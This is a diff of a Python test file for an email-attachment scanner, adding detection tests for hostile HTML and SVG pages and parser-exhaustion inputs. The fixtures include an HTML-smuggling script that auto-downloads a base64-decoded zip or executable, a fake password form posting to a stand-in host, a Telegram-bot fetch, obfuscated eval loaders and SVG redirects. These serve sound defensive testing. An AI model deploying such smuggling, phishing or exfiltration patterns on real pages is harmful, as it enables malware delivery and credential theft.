@@ -1,6 +1,8 @@
 """PDF files, pages and pictures: what they do is seen, and honest ones are left alone."""
 
+import base64
 import io
+import time
 
 import pytest
 from PIL import Image
@@ -11,14 +13,16 @@ from mailflows.examine.pages.documents import not_read, what_it_does
 from mailflows.examine.pages.redraw import as_png
 from mailflows.examine.seen import Part
 from mailflows.examine.turn import take_turn
-from tests.exhibits import mail, part
+from tests.exhibits import mail, part, zipped
 from tests.exhibits.pages import (
+    archive_page,
     as_file,
     beside,
     boxes,
     claiming,
     code,
     holding,
+    in_letters,
     linked,
     locked,
     packed,
@@ -244,7 +248,7 @@ def test_a_bomb_is_not_decoded() -> None:
         as_file(photograph(mode="I;16"), "PNG"),
         as_file(photograph(mode="RGBA")),
         as_file(photograph(mode="1"), "TIFF"),
-        as_file(Image.effect_noise((2500, 2500), 90).convert("RGB"), "JPEG", quality=60),
+        as_file(Image.effect_noise((1700, 1200), 90).convert("RGB"), "JPEG", quality=60),
     ],
 )
 def test_a_picture_is_drawn_anew(picture: bytes) -> None:
@@ -267,3 +271,148 @@ def test_what_a_camera_noted_stays_behind_and_the_picture_stands_upright() -> No
 def test_what_is_no_picture_is_not_drawn(content: bytes) -> None:
     with pytest.raises(ValueError, match="picture"):
         as_png(content)
+
+
+# Pages sent as files.
+
+ZIP64 = base64.b64encode(zipped(invoice__js=b"var a = 1;" * 40)).decode()
+PE64 = base64.b64encode(b"MZ\x90\x00" + bytes(300)).decode()
+SMUGGLE = (
+    '<html><script>var d = atob("%s"); var b = new Blob([Uint8Array.from(d, c => c.charCodeAt(0))]);'
+    'var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "invoice.zip"; a.click();'
+    "</script></html>"
+)
+ESCAPED = "".join(f"%{ord(sign):02x}" for sign in "<html><form>" * 9)
+PNG64 = base64.b64encode(as_file(photograph())).decode()
+PASSWORD = '<html><body>Sign in<form action="https://x.example/get.php" method="post">%s<input type="password"></form>'
+TALE = "<p>" + "The editors met on Monday and spoke of many things. " * 20 + "</p>"
+
+
+@pytest.mark.parametrize(
+    ("content", "weight"),
+    [
+        (SMUGGLE % ZIP64, 6),
+        (SMUGGLE % PE64, 6),
+        (SMUGGLE % "AAAA", 5),
+        ((SMUGGLE % ZIP64).encode("utf-16"), 6),
+        (f'<html><a download="a.zip" href="data:application/zip;base64,{ZIP64}">Open</a></html>', 6),
+        (f"<html><script>var b = [{','.join(str(octet) for octet in b'MZ' + bytes(150))}]</script></html>", 6),
+        (f"<html><script>var b = '{(b'MZ' + bytes(300)).hex()}'</script></html>", 6),
+        (f"<html><script>var b = '{base64.b64encode(PE64.encode()).decode()}'</script></html>", 6),
+        (f"<script>document.write(unescape('{ESCAPED}'))</script>", 4),
+        ("<html><script>eval(atob('YWxlcnQoMSk='))</script></html>", 4),
+        ("<html><script>Function(String.fromCharCode(97,98))()</script></html>", 4),
+        (f"<html><script>{' '.join(f'var _0x{n:04x}=1;' for n in range(20))}</script></html>", 4),
+        (PASSWORD % "", 6),
+        ("<html>Sign in<input type=password></html>", 4),
+        ('<html><form action="https://x.example/"><input name="card"></form></html>', 2),
+        ("<html><script>fetch('https://api.telegram.org/bot12:AA/sendMessage?chat_id=1')</script></html>", 5),
+        ('<html><meta http-equiv="refresh" content="0; url=https://x.example/"></html>', 3),
+        ("<html><script>window.location.href = 'https://x.example/'</script></html>", 3),
+        ("<html><script>window['loc'+'ation'] = 'https://' + 'x.example/'</script></html>", 3),
+        ('<html><iframe src="https://x.example/" width="100%"></iframe></html>', 2),
+        ('<html><img src="file://evil.example/a.png"></html>', 5),
+        ('<html><form><input type="email" value="layla@reporter.example"></form></html>', 2),
+        ("<html><script>var a = 1;</script></html>", 1),
+        ("<html><script>var a = 1;</script>" + "\n" * 600 + "</html>", 2),
+        ('<svg xmlns="http://www.w3.org/2000/svg" onload="location=\'https://x.example/\'"></svg>', 5),
+        ('<?xml version="1.0"?>\n<!-- a -->\n<svg><script><![CDATA[location.replace(atob("aA"))]]></script></svg>', 5),
+        ('<svg><a xlink:href="javascript:alert(1)"><rect/></a></svg>', 3),
+        ("<svg><foreignObject><body><form><input></form></body></foreignObject></svg>", 4),
+    ],
+)  # fmt: skip
+def test_f10_a_page_that_does_more_than_show(content: str | bytes, weight: int) -> None:
+    octets = content if isinstance(content, bytes) else content.encode()
+    name = "a.svg" if b"<svg" in octets else "a.html"
+    assert heaviest(octets, name, "F10") == weight
+
+
+@pytest.mark.parametrize(
+    ("content", "name"),
+    [
+        (f'<html><style>p {{color: red}}</style>{TALE}<a href="https://x.example/">more</a></html>', "a.html"),
+        (f"<html>{TALE}<img src='data:image/png;base64,{PNG64}'></html>", "a.html"),
+        (f'<html>{TALE}<script type="application/ld+json">{{"@id": "https://x.example"}}</script></html>', "a.htm"),
+        ('<html><p dir="rtl">مرحبا بكم في موقع الصحيفة</p></html>', "مقال.html"),
+        ('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9v9z"/><text>نص</text></svg>', "a.svg"),
+        ("<svg><foreignObject><div>words</div></foreignObject></svg>", "a.svg"),
+        ('<html><form action="https://search.example/"><input name="q"></form></html>', "a.html"),
+        ('<html><meta http-equiv="refresh" content="0; url=page2.html"></html>', "a.html"),
+    ],
+)  # fmt: skip
+def test_an_honest_page_is_left_alone(content: str, name: str) -> None:
+    found = [one for one in findings_of(content.encode(), name) if one.look in OURS and one.weight]
+    assert not [one for one in found if "lead" not in one.evidence]
+
+
+def test_what_a_page_smuggles_is_looked_at_itself() -> None:
+    found = findings_of((SMUGGLE % PE64).encode(), "a.html")
+    assert ("F16", "mail/2/in/1") in {(finding.look, finding.path) for finding in found}
+    asked = base64.b64encode((PASSWORD % " " * 3).encode()).decode()
+    found = findings_of(f"<html><script>document.write(atob('{asked}'))</script></html>".encode(), "a.html")
+    assert ("F10", "mail/2/in/1") in {(finding.look, finding.path) for finding in found}
+
+
+def test_where_code_leads_is_judged_like_a_link() -> None:
+    page = b"<html><script>location = 'http://0xCB007109/login'</script></html>"
+    assert ("http://0xCB007109/login", "script") in links_of(page, "a.html")
+    assert "U05" in {finding.look for finding in findings_of(page, "a.html")}
+    assert links_of(b'<svg><a xlink:href="https://x.example/"><rect/></a></svg>', "a.svg") == {
+        ("https://x.example/", "html")
+    }
+
+
+def test_a_saved_page_is_taken_apart() -> None:
+    saved = archive_page(
+        [
+            {"kind": b"image/png", "place": b"https://x.example/a.png", "content": b"\x89PNG"},
+            {"kind": b"text/html; charset=utf-8", "place": b"https://x.example/", "content": (PASSWORD % "").encode()},
+        ]
+    )
+    found = findings_of(saved, "page.mht")
+    assert ("F10", "mail/2/in/2") in {(finding.look, finding.path) for finding in found}
+
+
+@pytest.mark.parametrize("how", ["halves", "blocks", "squares", "table"])
+def test_a_code_drawn_with_letters_is_read(how: str) -> None:
+    drawn = in_letters("https://x.example/", how)
+    name = "a.html" if how == "table" else "a.txt"
+    assert ("https://x.example/", "qr") in links_of(drawn.encode(), name)
+
+
+def test_texts_are_read_in_their_alphabet() -> None:
+    for octets in ("مرحبا بالعالم، كيف حالكم اليوم".encode(), "مرحبا بالعالم، كيف حالكم اليوم".encode("cp1256")):
+        assert "كيف حالكم" in readings.shown_by_text(a_file(octets, "a.txt")).text
+    assert "déjà vu à Évry" in readings.shown_by_text(a_file("déjà vu à Évry".encode("cp1252"), "a.txt")).text
+    assert "سلام" in readings.shown_by_text(a_file("سلام".encode("utf-16"), "a.txt")).text
+    assert links_of(b"see https://x.example/a", "a.csv") == {("https://x.example/a", "text")}
+    assert not [one for one in findings_of(b"see you, 1 2 3", "a.log") if one.look in OURS]
+
+
+# What is made to stop whoever reads it.
+
+HOSTILE = {
+    "many lists": (pdf(b"[" * 5000 + b"]" * 5000), "a.pdf"),
+    "a loop of pages": (pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "a.pdf"),
+    "a loop of actions": (pdf(b"<< /S /JavaScript /JS (a) /Next 6 0 R >>", root=b"/OpenAction 6 0 R"), "a.pdf"),
+    "a bomb of streams": (pdf(*[stream(b"<< /S /JavaScript /JS 7 0 R >>")] * 3000), "a.pdf"),
+    "scripts without end": (b"<html>" + b"<script" * 200_000, "a.html"),
+    "tags without end": (b"<html>" + b"<script>" * 100_000, "a.html"),
+    "short runs": (b"<html>" + (b"A" * 159 + b" ") * 20_000, "a.html"),
+    "short numbers": (b"<html>[" + b"[1,2,3," * 300_000, "a.html"),
+    "short hex": (b"<html>" + (b"a" * 399 + b".") * 8_000, "a.html"),
+    "only spaces": (b"<html><script>a" + (b" " * 299 + b"a") * 8_000, "a.html"),
+    "deep": (b"<html>" + b"<div>" * 150_000, "a.html"),
+    "brackets": (b"<html><script>" + (b"[" * 399 + b"a") * 2_000, "a.html"),
+    "data without end": (b"<html>" + b"data:text/html," * 100_000, "a.html"),
+    "plus signs": (b"<html><script>" + b"'a' + " * 100_000, "a.html"),
+    "lines that draw": (("\u2588" * 300 + "\n").encode() * 5000, "a.txt"),
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_what_is_made_to_stop_its_reader_does_not(name: str) -> None:
+    content, called = HOSTILE[name]
+    before = time.process_time()
+    findings_of(content, called)
+    assert time.process_time() - before < 3
